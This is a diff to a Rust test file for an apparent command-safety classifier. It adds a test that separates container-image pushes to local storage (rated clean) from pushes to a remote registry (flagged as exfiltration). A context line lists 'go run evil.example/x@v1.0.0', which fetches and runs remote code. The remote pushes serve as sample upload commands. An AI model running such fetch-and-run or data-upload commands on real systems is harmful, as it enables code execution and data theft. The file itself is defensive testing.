@@ -164,3 +164,28 @@ fn argocd_password_reset_and_go_get_print_and_run_nothing() {
         "go run evil.example/x@v1.0.0",
     ]);
 }
+
+/// toolsdocse, session 54: `buildah push docker.io/library/alpine:3.11
+/// oci:/path/to/alpine` was asked as an upload; the destination is an
+/// OCI layout on this machine (containers-transports(5)). The same for
+/// podman's push.
+#[test]
+fn an_image_pushed_to_local_storage_is_no_upload() {
+    each(
+        &[
+            "buildah push docker.io/library/alpine:3.11 oci:/path/to/alpine",
+            "podman push alpine dir:/tmp/x",
+            "podman push alpine oci-archive:/tmp/a.tar",
+        ],
+        "clean",
+    );
+    flagged_each(
+        &[
+            "buildah push me/x docker://reg.example/x",
+            "podman push alpine docker://reg.example/x",
+            "podman push me/app",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+}
